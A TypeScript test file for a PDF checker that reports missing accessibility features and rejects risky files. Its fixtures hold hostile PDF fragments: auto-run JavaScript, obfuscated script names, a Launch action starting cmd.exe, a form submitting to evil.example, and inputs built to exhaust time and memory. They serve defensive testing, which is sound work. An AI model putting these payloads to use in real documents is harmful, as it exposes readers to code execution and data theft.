import { expect, test } from 'vitest';
import { isRefusal } from '@/lib/errors';
import { readPdf } from './pdf';
import { byHand, onePage, packedObjects } from './testing/pdfs';

const told = (bytes: Buffer): string => {
  try {
    const { gaps, language } = readPdf(bytes, 'plan.pdf');
    return `${language ?? '-'} ${gaps?.join(' ')}`.trim();
  } catch (error) {
    return isRefusal(error) ? error.code : String(error);
  }
};

const script = '<</S/JavaScript/JS(app.alert(1))>>';

test('a PDF of a library says what it lacks', async () => {
  expect(told(await onePage())).toBe('- tags language title');
  const good = { tagged: true, lang: 'de-DE', info: { Title: 'Plan' }, displayTitle: true };
  expect(told(await onePage(good))).toBe('de-DE');
  expect(told(await onePage({ ...good, pdfVersion: '1.5' }))).toBe('de-DE');
});

test.each<[string, Buffer, string]>([
  [
    'tags that are marked in an object of their own',
    byHand('/MarkInfo 4 0 R/StructTreeRoot 5 0 R/Lang(en)', '<</Marked true>>', '<<>>'),
    'en title',
  ],
  ['tags that only a mark claims', byHand('/MarkInfo<</Marked true>>'), '- tags language title'],
  [
    'a catalogue in packed objects',
    byHand('', packedObjects([[1, '<</Type/Catalog/MarkInfo<</Marked true>>/StructTreeRoot 9 0 R/Lang(de)>>']])),
    'de title',
  ],
  ['a script when it opens', byHand(`/OpenAction${script}`), 'document.pdf-active'],
  ['a script under a name with escapes', byHand('/OpenAction<</S/J#61vaScript/J#53(x)>>'), 'document.pdf-active'],
  ['a script in an object beside', byHand('/OpenAction 4 0 R', script), 'document.pdf-active'],
  ['a script in packed objects', byHand('/OpenAction 9 0 R', packedObjects([[9, script]])), 'document.pdf-active'],
  [
    'a script in objects that call themselves nothing',
    byHand(
      '',
      Buffer.from(
        packedObjects([[9, script]])
          .toString('latin1')
          .replace('/Type/ObjStm', ''),
        'latin1',
      ),
    ),
    'document.pdf-active',
  ],
  ['objects packed in another way', byHand('', packedObjects([[9, script]], '/LZWDecode')), 'document.pdf-broken'],
  [
    'objects packed twice',
    byHand('', packedObjects([[9, script]], '[/ASCIIHexDecode/FlateDecode]')),
    'document.pdf-broken',
  ],
  ['a program to start', byHand('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'document.pdf-active'],
  ['a form that sends', byHand('', '<</S/SubmitForm/F(https://evil.example)>>'), 'document.pdf-active'],
  ['a form of XML', byHand('/AcroForm<</XFA 4 0 R>>', '<<>>'), 'document.pdf-active'],
  ['a file in it', byHand('/Names<</EmbeddedFiles<<>>>>'), 'document.pdf-attachments'],
  [
    'a lock',
    Buffer.from(byHand('').toString('latin1').replace('/Size 9', '/Encrypt 8 0 R'), 'latin1'),
    'document.pdf-locked',
  ],
  ['a page before it', Buffer.concat([Buffer.from('<html>'), byHand('')]), 'document.pdf-broken'],
  ['a page behind it', Buffer.concat([byHand(''), Buffer.alloc(2_000, 'x')]), 'document.pdf-broken'],
  ['no end', Buffer.from('%PDF-1.7'), 'document.pdf-broken'],
  ['no catalogue', Buffer.from('%PDF-1.7\n%%EOF'), 'document.pdf-broken'],
])('a PDF with %s', (_what, bytes, said) => {
  expect(told(bytes)).toBe(said);
});

test('a large PDF that is made to take long does not', () => {
  const many = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(8_000_000, '1 0 obj '), Buffer.from('\n%%EOF')]);
  const began = performance.now();
  told(many);
  expect(performance.now() - began).toBeLessThan(5_000);
});

test('neither millions of escapes nor a list without end take more memory than there is', () => {
  expect(told(byHand('', Buffer.alloc(16_000_000, '#41 /')))).toBe('- tags language title');
  const list = Buffer.from('<</Type/ObjStm/N 9/First 8000000>>\nstream\n');
  expect(told(byHand('', Buffer.concat([list, Buffer.alloc(8_000_000, '7 0 ')])))).toBe('document.pdf-broken');
});
